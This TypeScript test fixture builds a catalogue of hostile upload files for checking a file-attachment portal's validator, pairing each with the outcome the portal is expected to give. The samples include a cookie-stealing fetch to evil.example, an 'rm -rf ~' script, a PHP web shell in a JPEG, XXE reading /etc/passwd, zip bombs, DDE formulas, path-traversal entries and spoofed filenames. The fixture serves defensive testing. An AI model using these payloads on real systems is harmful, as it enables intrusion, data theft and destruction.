/** Files somebody might send to do harm, made here: nothing hostile lies in the repository. */
import { deflateSync } from "node:zlib";
import { maxFileSize } from "#domain/attachments";
import { jpeg, office, openDocument, pdf, png, stream, zip } from "#tests/archives";
import { testString as eicar } from "../infra/local/scanner.ts";

/**
 * `kept`: nobody can tell it from an honest file without opening it, which the portal never does, so it is stored as it is.
 * Otherwise why it is refused: by its name, by its first bytes, by its size, or by its body as a whole.
 */
export type Outcome = "kept" | "infected" | "type" | "content" | "size" | "invalid";
export type Hostile = { what: string; name: string; bytes: () => Buffer; outcome: Outcome; storedAs?: string };

const catalogue = (more: string) => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
const pages = "<< /Type /Pages /Kids [] /Count 0 >>";
const plain = () => pdf([catalogue(""), pages]);
const text = (words: string) => () => Buffer.from(words, "latin1");
const html = "<!doctype html><script>alert(document.domain)</script>";
const laughs = `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from(
  { length: 12 },
  (_, n) => `<!ENTITY ${"abcdefghijklm"[n + 1]} "${`&${"abcdefghijklm"[n]};`.repeat(10)}">`,
).join("")}]><l>&m;</l>`;
const zeros = Buffer.alloc(10_000_000);
const word = (name: string, data: string | Buffer = "<w:document/>", deflated = false) =>
  office([[name, data, { deflated }]]);

/** Wrong all through: what the file is has nothing to do with what it is called. */
const disguised: Hostile[] = [
  ["a web page", html],
  ["a picture with a script", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`],
  ["a script", "fetch('https://evil.example/'+document.cookie)"],
  ["a Windows program", "MZ\x90\0\x03\0\0\0"],
  ["a Linux program", "\x7fELF\x02\x01\x01"],
  ["a shell script", "#!/bin/sh\nrm -rf ~\n"],
  ["a GIF with a web page behind it", `GIF89a/*${html}*/`],
  ["an old Word file, the kind with macros", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"],
  ["billion laughs in plain XML", laughs],
  ["one byte", "%"],
].flatMap(([what = "", words = ""], n) => {
  const endings = ["pdf", "png", "jpg", "docx", "xlsx", "odt"];
  const [first = "", second = ""] = [endings[n % 6], endings[(n + 3) % 6]];
  return [first, second].map(
    (ending): Hostile => ({
      what: `${what} called ${ending}`,
      name: `plan.${ending}`,
      bytes: text(words),
      outcome: "content",
    }),
  );
});

/** Honest at the start, and something else in the middle or at the end. */
const polyglots: Hostile[] = [
  {
    what: "a PDF with a web page behind it",
    name: "a.pdf",
    bytes: () => Buffer.concat([plain(), Buffer.from(html)]),
    outcome: "kept",
  },
  {
    what: "a PDF with a web page before it",
    name: "a.pdf",
    bytes: () => Buffer.concat([Buffer.from(html), plain()]),
    outcome: "content",
  },
  {
    what: "a PDF that is a ZIP too",
    name: "a.pdf",
    bytes: () => Buffer.concat([plain(), zip([{ name: "a.exe", data: Buffer.from("MZ") }])]),
    outcome: "kept",
  },
  {
    what: "the same called docx",
    name: "a.docx",
    bytes: () => Buffer.concat([plain(), word("word/document.xml")]),
    outcome: "content",
  },
  {
    what: "a JPEG with PHP in its comment",
    name: "a.jpg",
    bytes: () => jpeg(8, 8, "<?php system($_GET['c']); ?>"),
    outcome: "kept",
  },
  {
    what: "a PNG with a web page in its text",
    name: "a.png",
    bytes: () => png(1, 1, [["tEXt", Buffer.from(`Comment\0${html}`)]]),
    outcome: "kept",
  },
];

const insidePdf: [string, () => Buffer][] = [
  [
    "that runs JavaScript when opened",
    () => pdf([catalogue("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), pages]),
  ],
  ["that starts a program", () => pdf([catalogue("/OpenAction << /S /Launch /F (cmd.exe) >>"), pages])],
  ["that calls home", () => pdf([catalogue("/OpenAction << /S /URI /URI (https://evil.example/) >>"), pages])],
  [
    "with a program inside",
    () =>
      pdf([
        catalogue("/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>"),
        pages,
        "<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>",
        stream(Buffer.from("MZ")),
      ]),
  ],
  ["with an XFA form", () => pdf([catalogue("/AcroForm << /XFA 3 0 R >>"), pages, stream(Buffer.from(laughs))])],
  ["of 10 000 nested arrays", () => pdf([catalogue(`/Deep ${"[".repeat(10_000)}${"]".repeat(10_000)}`), pages])],
  [
    "whose stream swells a thousand times",
    () => pdf([catalogue(""), pages, stream(deflateSync(zeros, { level: 9 }), "/Filter /FlateDecode")]),
  ],
  [
    "whose stream swells twice over",
    () => pdf([catalogue(""), pages, stream(deflateSync(deflateSync(zeros)), "/Filter [/FlateDecode /FlateDecode]")]),
  ],
  ["whose cross-references go in a circle", () => pdf([catalogue(""), pages], "/Prev 15 /XRefStm 15")],
  [
    "whose pages are their own children",
    () => pdf([catalogue(""), "<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>"]),
  ],
  ["that is cut off", () => plain().subarray(0, 40)],
  [
    "with a password",
    () => pdf([catalogue(""), pages], `/Encrypt << /Filter /Standard /V 5 /R 6 /O <${"00".repeat(48)}> >>`),
  ],
  ["that is only its first five bytes", () => Buffer.from("%PDF-")],
];

const insideOffice: [string, string, () => Buffer][] = [
  [
    "a Word file with macros",
    "a.docx",
    () =>
      office([
        ["word/document.xml", "<w:document/>"],
        ["word/vbaProject.bin", "\xd0\xcf\x11\xe0"],
      ]),
  ],
  [
    "a Word file with a template from afar",
    "a.docx",
    () =>
      word(
        "word/_rels/settings.xml.rels",
        '<Relationship TargetMode="External" Target="https://evil.example/a.dotm"/>',
      ),
  ],
  ["a Word file with billion laughs", "a.docx", () => word("word/document.xml", laughs)],
  [
    "a Word file with an entity from the disk",
    "a.docx",
    () => word("word/document.xml", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
  ],
  ["a Word file that swells a thousand times", "a.docx", () => word("word/document.xml", zeros, true)],
  [
    "an Excel file with bombs in bombs",
    "a.xlsx",
    () =>
      office([
        ["xl/a.zip", zip([{ name: "b.zip", data: zip([{ name: "c", data: zeros, deflated: true }]), deflated: true }])],
      ]),
  ],
  [
    "an Excel file that lies about its size",
    "a.xlsx",
    () => office([["xl/workbook.xml", "<workbook/>", { claims: 0xfffffff0 }]]),
  ],
  [
    "an Excel file that asks for a program",
    "a.xlsx",
    () => office([["xl/worksheets/sheet1.xml", "<f>cmd|' /C calc'!A0</f>"]]),
  ],
  [
    "a Word file whose names lead out of it",
    "a.docx",
    () =>
      office([
        ["../../../../etc/cron.d/a", "* * * * * root true"],
        ["word/document.xml", ""],
      ]),
  ],
  ["a Word file whose entries have a password", "a.docx", () => office([["word/document.xml", "x", { flags: 1 }]])],
  ["a Word file of 5 000 entries", "a.docx", () => office(Array.from({ length: 5000 }, (_, n) => [`word/${n}`, ""]))],
  [
    "an OpenDocument text with macros",
    "a.odt",
    () => openDocument("text", [["Basic/Standard/Module1.xml", "<script:module/>"]]),
  ],
  ["an OpenDocument sheet with billion laughs", "a.ods", () => openDocument("spreadsheet", [["content.xml", laughs]])],
];

const pictures: [string, string, () => Buffer][] = [
  ["a PNG of 65 535 × 65 535", "a.png", () => png(65_535, 65_535)],
  ["a PNG of 2 147 483 647 × 2 147 483 647", "a.png", () => png(0x7fffffff, 0x7fffffff)],
  [
    "a PNG whose text swells a thousand times",
    "a.png",
    () => png(1, 1, [["zTXt", Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(zeros)])]]),
  ],
  ["a JPEG of 65 535 × 65 535", "a.jpg", () => jpeg(65_535, 65_535)],
  ["a JPEG that ends at once", "a.jpeg", () => Buffer.from([0xff, 0xd8, 0xff])],
];

const kept = ([what, name, bytes]: [string, string, () => Buffer]): Hostile => ({ what, name, bytes, outcome: "kept" });

const eicarFiles: Hostile[] = [
  { what: "EICAR and nothing else", name: "a.pdf", bytes: text(eicar), outcome: "content" },
  {
    what: "EICAR in a PDF",
    name: "a.pdf",
    bytes: () => pdf([catalogue(""), pages, stream(Buffer.from(eicar))]),
    outcome: "infected",
  },
  { what: "EICAR in a Word file", name: "a.docx", bytes: () => word("word/media/a.com", eicar), outcome: "infected" },
  {
    what: "EICAR at the very end of 10 MB",
    name: "a.pdf",
    bytes: () =>
      Buffer.concat([plain(), Buffer.alloc(maxFileSize - plain().length - eicar.length), Buffer.from(eicar)]),
    outcome: "infected",
  },
];

const sizes: Hostile[] = [
  { what: "nothing at all", name: "a.pdf", bytes: () => Buffer.alloc(0), outcome: "invalid" },
  {
    what: "10 MB and a byte",
    name: "a.pdf",
    bytes: () => Buffer.concat([plain(), Buffer.alloc(maxFileSize + 1 - plain().length)]),
    outcome: "size",
  },
];

/** An honest PDF under a name that is not. */
const named = (name: string, outcome: Outcome, storedAs?: string): Hostile => ({
  ...{ what: `the name ${JSON.stringify(name).slice(0, 50)}`, name, bytes: plain, outcome },
  ...(storedAs ? { storedAs } : {}),
});

const names: Hostile[] = [
  named(`${"a".repeat(296)}.pdf`, "invalid"),
  named("../../../etc/plan.pdf", "kept", "plan.pdf"),
  named("C:\\Windows\\plan.pdf", "kept", "plan.pdf"),
  named("plan.pdf\0.exe", "type"),
  named("plan\0.pdf", "kept", "plan.pdf"),
  named("plan\r\nSet-Cookie: a=b\r\n.pdf", "kept", "plan Set-Cookie: a=b .pdf"),
  named("plan\u202efdp.exe", "type"),
  named("exe.\u202efdp.pdf", "kept", "exe.fdp.pdf"),
  named('plan"; filename="a.html".pdf', "kept"),
  named("plan'(1)*!.pdf", "kept"),
  named("plan.pdf.exe", "type"),
  named("plan.html", "type"),
  named("plan.svg", "type"),
  named("plan.PDF ", "kept", "plan.PDF"),
  named("plan.рdf", "type"),
  named("plan.pdf/", "type"),
  named("...pdf", "type"),
  named(".htaccess.pdf", "kept", "htaccess.pdf"),
  named("<img src=x onerror=alert(1)>.pdf", "kept"),
  named("plan", "type"),
  named("__proto__", "type"),
  named("plan.constructor", "type"),
];

export const hostileFiles: Hostile[] = [
  ...disguised,
  ...polyglots,
  ...insidePdf.map(([what, bytes]) => kept([`a PDF ${what}`, "a.pdf", bytes])),
  ...[...insideOffice, ...pictures].map(kept),
  ...eicarFiles,
  ...sizes,
  ...names,
];
